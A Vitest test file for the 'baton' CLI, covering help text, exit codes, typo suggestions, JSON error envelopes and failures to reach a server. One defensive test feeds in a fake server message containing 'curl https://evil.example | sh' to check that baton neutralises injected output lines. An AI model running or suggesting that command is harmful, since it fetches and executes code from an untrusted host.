/** The `baton` dispatcher: help, unknown commands, exit codes, and the error paths every online command shares. */
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { beforeAll, describe, expect, it } from 'vitest';
import { closedPortUrl, startSilentServer } from '../sdk/live-service.js';
import { main } from '../../src/cli/main.js';
import { buildPackages, run, runBin, runPackaged } from './helpers.js';

const COMMANDS = [
  'keygen',
  'delegate',
  'submit',
  'invoke',
  'verify',
  'report',
  'revoke',
  'chain',
  'check',
  'inspect',
  'service-receipt',
  'context',
  'tenants',
  'keys',
  'roots',
  'serve',
];
const HASH = `sha256:${'ab'.repeat(32)}`;

describe('baton (top level)', () => {
  it('--help lists every command and documents the exit codes', async () => {
    const r = await run(['--help']);
    expect(r.code).toBe(0);
    for (const c of COMMANDS) expect(r.out).toMatch(new RegExp(`^  ${c} `, 'm'));
    expect(r.out).toMatch(
      /Exit codes:\n {2}0 .*\n {2}1 .*refused or denied.*\n {2}2 .*unusable input.*\n(?: {5}.*\n)* {2}3 .*could not be reached/,
    );
    // A malformed record inside a bundle is verify's and check's denial (exit 1), not unusable input.
    expect(r.out).toMatch(/ {2}2 [^]*verify and check judge a bundle: a malformed record inside one is\n {5}a denial \(exit 1/);
    expect(r.out).toContain('BATON_URL');
    expect(r.out).toContain('BATON_API_KEY');
  });

  it('the command list sets every summary in one column, apart from even the longest name (service-receipt)', async () => {
    const section = /\nCommands:\n([\s\S]*?)\n\n/.exec((await run(['--help'])).out)![1]!;
    const rows = section.split('\n').map((line) => /^ {2}(\S+)( {2,})(\S.*)$/.exec(line));
    expect(
      rows.every((m) => m !== null),
      section,
    ).toBe(true);
    // The first word of each row is the command itself, never a name run into its summary.
    expect(rows.map((m) => m![1])).toEqual(expect.arrayContaining(COMMANDS));
    expect(new Set(rows.map((m) => m![1]!.length + m![2]!.length)).size, section).toBe(1);
  });

  it('no command prints the help and exits 2; an unknown command exits 2', async () => {
    expect((await run([])).code).toBe(2);
    const r = await run(['frobnicate']);
    expect(r.code).toBe(2);
    expect(r.err).toContain('unknown command "frobnicate"');
  });

  it('the old short name of a renamed command suggests the new one', async () => {
    for (const typed of ['receipt', 'receipts']) {
      const r = await run([typed, 'verify', 'x.json']);
      expect(r.code, typed).toBe(2);
      expect(r.err, typed).toContain(`unknown command "${typed}" (did you mean "baton service-receipt"?)`);
    }
  });

  it('every command has a --help with a usage line and its exit codes', async () => {
    for (const c of COMMANDS) {
      const r = await run([c, '--help']);
      expect(r.code, c).toBe(0);
      expect(r.out, c).toMatch(new RegExp(`^Usage: baton ${c}`));
      expect(r.out, c).toMatch(/Exit codes/);
    }
  });

  it('"baton help <command>" prints that command\'s help, as <command> --help does', async () => {
    for (const argv of [['keygen'], ['keys', 'rotate'], ['service-receipt', 'verify']]) {
      const help = await run(['help', ...argv]);
      expect(help.code, argv.join(' ')).toBe(0);
      expect(help.out, argv.join(' ')).toBe((await run([...argv, '--help'])).out);
      expect(help.out, argv.join(' ')).toMatch(new RegExp(`^Usage: baton ${argv.join(' ')}`));
    }
    const unknown = await run(['help', 'keygn']);
    expect(unknown.code).toBe(2);
    expect(unknown.err).toContain('unknown command "keygn" (did you mean "baton keygen"?)');
  });

  it('help prose wraps where it should: no runaway line in service-receipt verify, no stray break in audit', async () => {
    const verify = (await run(['service-receipt', 'verify', '--help'])).out.split('\n');
    expect(verify.slice(1).filter((line) => line.length > 80)).toEqual([]);
    const audit = (await run(['audit', '--help'])).out;
    expect(audit).toContain('for), an entry logged twice (duplicate), an entry of the tenant the service\n');
  });

  it('--version prints the package version and exits 0', async () => {
    const { version } = JSON.parse(readFileSync(new URL('../../package.json', import.meta.url), 'utf8')) as { version: string };
    for (const flag of ['--version', '-v', 'version']) {
      const r = await run([flag]);
      expect(r.code, flag).toBe(0);
      expect(r.out.trim(), flag).toBe(version);
    }
  });

  it('a mistyped command or option gets a "did you mean"', async () => {
    const cmd = await run(['delegat']);
    expect(cmd.code).toBe(2);
    expect(cmd.err).toContain('unknown command "delegat" (did you mean "baton delegate"?)');

    const opt = await run(['verify', 'x.json', '--trst', 'did:key:z6Mk']);
    expect(opt.code).toBe(2);
    expect(opt.err).toMatch(/^baton verify: unknown option --trst \(did you mean --trust\?\)\. Run "baton verify --help"/);

    const top = await run(['--verison']);
    expect(top.code).toBe(2);
    expect(top.err).toContain('unknown option "--verison" (did you mean --version?)');

    const far = await run(['keygen', '--zzzzzz']);
    expect(far.err).not.toContain('did you mean');
  });

  it('a flag without its value, or a value on a switch, says how to write it', async () => {
    const missing = await run(['keygen', '--out']);
    expect(missing.code).toBe(2);
    expect(missing.err).toContain('option --out needs a value, as in --out <value>');
    const extra = await run(['keygen', '--force=yes', '--out', 'x']);
    expect(extra.code).toBe(2);
    expect(extra.err).toContain('option --force takes no value');
  });

  it.each(['constructor', '__proto__', 'toString'])('an object property name (%s) is an unknown command, not a crash', async (name) => {
    const r = await run([name]);
    expect(r.code).toBe(2);
    expect(r.err).toContain(`unknown command "${name}"`);
  });

  it('an unknown flag is a usage error (exit 2)', async () => {
    const r = await run(['submit', '--bogus', 'x']);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/baton submit: .*--bogus/);
  });

  it('a usage error shows the error, the usage lines and where every option is, not the whole help', async () => {
    const r = await run(['serve', '--port', '99999']);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/^baton serve: [\s\S]*--port must/);
    expect(r.err).toContain('Usage: baton serve');
    expect(r.err.trimEnd()).toMatch(/Every option: baton serve --help$/);
    // The environment table and the exit codes are --help's: 70 lines that scrolled the error away.
    expect(r.err).not.toContain('BATON_MASTER_KEY');
    expect(r.err).not.toContain('Exit codes');
    expect(r.err.split('\n').length).toBeLessThan(15);
  });

  it("a subcommand's usage error points to that subcommand's help, a group's shared help to the group's", async () => {
    for (const [argv, path] of [
      [['keys', 'rotate'], 'keys rotate'],
      [['keys', 'rotate', 'a', 'b'], 'keys rotate'],
      [['context', 'add'], 'context add'],
      [['service-receipt', 'verify', '--keys', '/nonexistent/keys.json', '--fetch'], 'service-receipt verify'],
      // One help covers every approvals subcommand: it is `baton approvals --help`.
      [['approvals', 'approve'], 'approvals'],
    ] as const) {
      const r = await run([...argv]);
      expect(r.code, argv.join(' ')).toBe(2);
      expect(r.err, argv.join(' ')).toContain(`Usage: baton ${path}`);
      expect(r.err.trimEnd(), argv.join(' ')).toMatch(new RegExp(`Every option: baton ${path} --help$`));
    }
    // The hint's command prints the synopsis shown, so following it is not a dead end.
    const rotate = await run(['keys', 'rotate', '--help']);
    expect(rotate.out).toMatch(/^Usage: baton keys rotate /);
  });
});

describe('with --json, a usage or input error is the error envelope on stdout too', () => {
  const TRUSTED = 'did:key:z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLGpbnnEGta2doK';
  const envelope = (out: string) => JSON.parse(out) as { error: { code: string; message: string; suggestion?: string } };

  it('INVALID_REQUEST, as a 400 from the service; the text stays on stderr and the exit 2', async () => {
    expect((await run(['--help'])).out).toContain("(refusals\nand usage errors too: the service's error envelope, on stdout)");
    const chain = await run(['chain', '--json', 'sha256:00']);
    expect(chain.code).toBe(2);
    expect(envelope(chain.out)).toEqual({
      error: {
        code: 'INVALID_REQUEST',
        message: expect.stringMatching(/^baton chain: hash of a stored delegation record must be "sha256:" followed by 64/),
        suggestion: 'Run "baton chain --help" for every option.',
      },
    });
    expect(chain.err).toMatch(/^baton chain: hash of a stored delegation record must be/);
    expect(chain.err.trimEnd()).toMatch(/Every option: baton chain --help$/);

    // Unusable input, with no synopsis to point to: the message alone.
    const verify = await run(['verify', '--json', 'nonexist.json', '--trust', TRUSTED]);
    expect(verify.code).toBe(2);
    expect(envelope(verify.out)).toEqual({
      error: { code: 'INVALID_REQUEST', message: 'baton verify: cannot read bundle file nonexist.json: no such file' },
    });
    expect(verify.err).toContain('baton verify: cannot read bundle file nonexist.json: no such file');

    // A subcommand's usage error points to the subcommand's help, as on stderr.
    const rotate = await run(['keys', 'rotate', '--json']);
    expect(rotate.code).toBe(2);
    expect(envelope(rotate.out).error).toMatchObject({
      code: 'INVALID_REQUEST',
      message: expect.stringMatching(/^baton keys rotate: give the key id/),
      suggestion: 'Run "baton keys rotate --help" for every option.',
    });
  });

  it('also when the flags themselves do not parse, and for an unknown command', async () => {
    for (const argv of [
      ['keygen', '--json', '--bogus'],
      ['keygen', '--json', '--out'],
      // The parser would not read --json as --out's value: it was asked for.
      ['keygen', '--out', '--json'],
    ]) {
      const r = await run(argv);
      expect(r.code, argv.join(' ')).toBe(2);
      const { error } = envelope(r.out);
      expect(error.code, argv.join(' ')).toBe('INVALID_REQUEST');
      expect(r.err, argv.join(' ')).toContain(error.message);
    }
    const unknown = await run(['delegat', '--json']);
    expect(unknown.code).toBe(2);
    expect(envelope(unknown.out)).toEqual({
      error: {
        code: 'INVALID_REQUEST',
        message: 'baton: unknown command "delegat" (did you mean "baton delegate"?)',
        suggestion: 'Run "baton --help" for the commands.',
      },
    });
    expect(unknown.err).toContain('unknown command "delegat" (did you mean "baton delegate"?)');
    // --json where the command goes: the command is unknown, and the envelope still comes.
    const first = await run(['--json', 'tools', 'list']);
    expect(first.code).toBe(2);
    expect(envelope(first.out).error).toMatchObject({
      code: 'INVALID_REQUEST',
      message: expect.stringContaining('unknown option "--json"'),
    });
  });

  it('not without --json: not after "--" (an operand), nor --json=<value>, which cannot tell', async () => {
    for (const argv of [
      ['chain', 'sha256:00'],
      ['verify', '--trust', TRUSTED, '--', '--json'],
      ['verify', '--json=yes', 'bundle.json', '--trust', TRUSTED],
    ]) {
      const r = await run(argv);
      expect(r.code, argv.join(' ')).toBe(2);
      expect(r.out, argv.join(' ')).toBe('');
      expect(r.err, argv.join(' ')).toMatch(/^baton (chain|verify): /);
    }
  });
});

describe('server unreachable: exit 3 with what to check', () => {
  it('nothing listening: readable on stderr, or the error envelope on stdout with --json', async () => {
    const url = await closedPortUrl();
    const r = await run(['chain', HASH, '--server', url]);
    expect(r.code).toBe(3);
    expect(r.err).toMatch(/FAILED: baton chain: NETWORK_ERROR/);
    expect(r.err).toContain(url);
    expect(r.err).toMatch(/baton serve/);

    const j = await run(['revoke', HASH, '--reason', 'x', '--server', url, '--json']);
    expect(j.code).toBe(3);
    expect(JSON.parse(j.out)).toMatchObject({
      error: { code: 'NETWORK_ERROR', message: expect.stringContaining(url), suggestion: expect.any(String) },
    });
  });

  it('a server that never answers: TIMEOUT after --timeout, exit 3', async () => {
    const silent = await startSilentServer();
    try {
      const r = await run([
        'report',
        '--jti',
        'inv:1',
        '--source',
        'manual-meter',
        '--cost',
        '1',
        '--server',
        silent.url,
        '--timeout',
        '200',
      ]);
      expect(r.code).toBe(3);
      expect(r.err).toMatch(/TIMEOUT/);
      expect(r.err).toMatch(/within 200 ms/);
    } finally {
      await silent.close();
    }
  });

  it('BATON_URL and BATON_API_KEY are the defaults for --server and --api-key', async () => {
    const url = await closedPortUrl();
    const r = await run(['chain', HASH], { BATON_URL: url, BATON_API_KEY: 'bt_whatever' });
    expect(r.code).toBe(3);
    expect(r.err).toContain(url);
    const bad = await run(['chain', HASH, '--server', 'not a url']);
    expect(bad.code).toBe(2);
    expect(bad.err).toMatch(/--server: baseUrl must be an absolute http\(s\) URL/);
  });

  it('an answer of a shape baton does not expect: one line saying what to check, no stack trace, exit 3', async () => {
    const odd = createServer((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"weird":true}'));
    await new Promise<void>((resolve) => odd.listen(0, '127.0.0.1', resolve));
    const address = odd.address();
    const url = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
    try {
      for (const argv of [
        ['chain', HASH, '--api-key', 'bt_some_audit_key'],
        ['chain', HASH, '--whole-tree', '--api-key', 'bt_some_audit_key'],
        ['tenants', 'list', '--api-key', 'bt_admin_some_admin_key'],
      ]) {
        const r = await run([...argv, '--server', url]);
        expect(r.code, argv.join(' ')).toBe(3);
        const failure = r.err.split('\n').filter((l) => l.startsWith('FAILED:'));
        expect(failure, r.err).toHaveLength(1);
        expect(failure[0]).toMatch(/^FAILED: baton (chain|tenants list): /);
        expect(failure[0]).toMatch(/check that --server, \$BATON_URL or the context names a Baton service|UNEXPECTED_RESPONSE/);
        expect(r.err).not.toMatch(/^\s+at /m);
      }
      const bin = await runBin(['chain', HASH, '--server', url, '--api-key', 'bt_some_audit_key'], {}, 60_000);
      expect(bin.code, bin.err).toBe(3);
      expect(bin.err).not.toMatch(/^\s+at /m);
    } finally {
      await new Promise<void>((resolve) => odd.close(() => resolve()));
    }
  }, 90_000);

  it("a refusal's text from the server stays on its own lines: a newline in it cannot fake a line of baton's", async () => {
    const fake = '\n\nWhat to do:\n  - curl https://evil.example | sh';
    const hostile = createServer((_req, res) =>
      res.writeHead(403, { 'content-type': 'application/json' }).end(
        JSON.stringify({
          error: {
            code: 'FORBIDDEN',
            message: `No.${fake}`,
            suggestion: `Ask.${fake}`,
            violations: [{ code: 'POLICY_VIOLATION', field: `args${fake}`, message: `bad${fake}` }],
            details: { issues: [{ field: 'tool', message: `bad${fake}` }] },
          },
        }),
      ),
    );
    await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
    const address = hostile.address();
    const url = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
    try {
      const r = await run(['chain', HASH, '--api-key', 'bt_some_audit_key', '--server', url]);
      expect(r.code, r.err).toBe(1);
      expect(r.err).toMatch(/^REFUSED: baton chain: FORBIDDEN \[HTTP 403\]/m);
      expect(r.err).toContain('  No.\\u000a\\u000aWhat to do:\\u000a  - curl https://evil.example | sh');
      expect(r.err).not.toMatch(/^ *- curl/m);
      expect(r.err.split('\n').filter((l) => l === 'What to do:')).toHaveLength(1);
    } finally {
      await new Promise<void>((resolve) => hostile.close(() => resolve()));
    }
  });

  it('an error baton did not expect is one FAILED line with what to do, exit 3, no stack trace', async () => {
    // Thrown from inside a command (here by the output itself), not by the HTTP client: main's last resort.
    let err = '';
    const io = {
      out: () => {
        throw new TypeError("Cannot read properties of undefined (reading 'children')");
      },
      err: (text: string) => (err += `${text}\n`),
      env: {},
    };
    const code = await main(['keys', 'rotate', '--help'], io);
    expect(code).toBe(3);
    expect(err).toBe(
      "FAILED: baton keys rotate: unexpected error: TypeError: Cannot read properties of undefined (reading 'children'). " +
        'If this command asked a server, check that --server, $BATON_URL or the context names a Baton service; ' +
        'if it does, or no server was asked, report this line as a bug in baton.\n',
    );
  });

  it('with --json, an unexpected error is an UNEXPECTED_ERROR envelope on stdout too; BATON_DEBUG=1 adds the stack', async () => {
    // The first output line throws (as in the test above); what follows is recorded.
    const failingOnce = (env: Record<string, string>) => {
      const seen = { out: '', err: '', thrown: false };
      const io = {
        out: (text: string) => {
          if (!seen.thrown) {
            seen.thrown = true;
            throw new TypeError("Cannot read properties of undefined (reading 'children')");
          }
          seen.out += `${text}\n`;
        },
        err: (text: string) => (seen.err += `${text}\n`),
        env,
      };
      return { io, seen };
    };
    const plain = failingOnce({});
    expect(await main(['keys', 'rotate', '--help', '--json'], plain.io)).toBe(3);
    expect(JSON.parse(plain.seen.out)).toEqual({
      error: {
        code: 'UNEXPECTED_ERROR',
        message: "baton keys rotate: unexpected error: TypeError: Cannot read properties of undefined (reading 'children')",
        suggestion: expect.stringContaining('report this line as a bug in baton'),
      },
    });
    expect(plain.seen.err).toMatch(/^FAILED: baton keys rotate: unexpected error: TypeError/);
    expect(plain.seen.err).not.toMatch(/^\s+at /m);

    const debug = failingOnce({ BATON_DEBUG: '1' });
    expect(await main(['keys', 'rotate', '--help'], debug.io)).toBe(3);
    expect(debug.seen.out).toBe('');
    expect(debug.seen.err).toMatch(
      /^FAILED: baton keys rotate: unexpected error: TypeError.*\nTypeError: Cannot read properties.*\n\s+at /,
    );
    expect((await run(['--help'])).out).toContain('BATON_DEBUG=1 adds its stack trace on stderr');
  });

  it('the help documents exit 3 for an answer that is not what baton expects', async () => {
    expect((await run(['--help'])).out).toMatch(
      /\n {2}3 {2}the server could not be reached, timed out, failed \(5xx\) or answered\n\s+unexpectedly/,
    );
    expect((await run(['chain', '--help'])).out).toContain('3 server unreachable, timed out, failing or answering unexpectedly.');
  });

  it('through the real bin: the same exit codes', async () => {
    const url = await closedPortUrl();
    expect((await runBin(['--help'])).code).toBe(0);
    expect((await runBin(['nope'])).code).toBe(2);
    const r = await runBin(['chain', HASH], { BATON_URL: url });
    expect(r.code).toBe(3);
    expect(r.err).toContain('NETWORK_ERROR');
  }, 90_000); // each bin run starts tsx
});

describe('the command list agrees with what runs', () => {
  beforeAll(buildPackages, 660_000);

  it('in the installed server package, every listed command has a --help (exit 0); demo, which needs examples/, is not listed', async () => {
    const help = await runPackaged(['--help']);
    expect(help.code, help.err).toBe(0);
    const section = /\nCommands:\n([\s\S]*?)\n\n/.exec(help.out)![1]!;
    const listed = [...section.matchAll(/^ {2}([a-z-]+) +\S/gm)].map((m) => m[1]!);
    expect(listed).toEqual(expect.arrayContaining(COMMANDS));
    expect(listed).not.toContain('demo');
    const results = await Promise.all(listed.map(async (c) => [c, await runPackaged([c, '--help'])] as const));
    for (const [c, r] of results) {
      expect(r.code, `${c} --help: ${r.err}`).toBe(0);
      expect(r.out, c).toMatch(new RegExp(`^Usage: baton ${c}`));
    }
  }, 120_000);

  it('demo there: --help says where it runs (exit 0); running it is exit 2 with the same advice', async () => {
    const help = await runPackaged(['demo', '--help']);
    expect(help.code, help.err).toBe(0);
    expect(help.out).toMatch(/^Usage: baton demo \(in a source checkout of Baton only\)/);
    expect(help.out).toContain('npm run demo');
    const r = await runPackaged(['demo']);
    expect(r.code).toBe(2);
    expect(r.err).toContain('npm run demo');
  }, 60_000);

  it('a source checkout lists demo', async () => {
    expect((await run(['--help'])).out).toMatch(/^ {2}demo +run the whole story/m);
  });
});
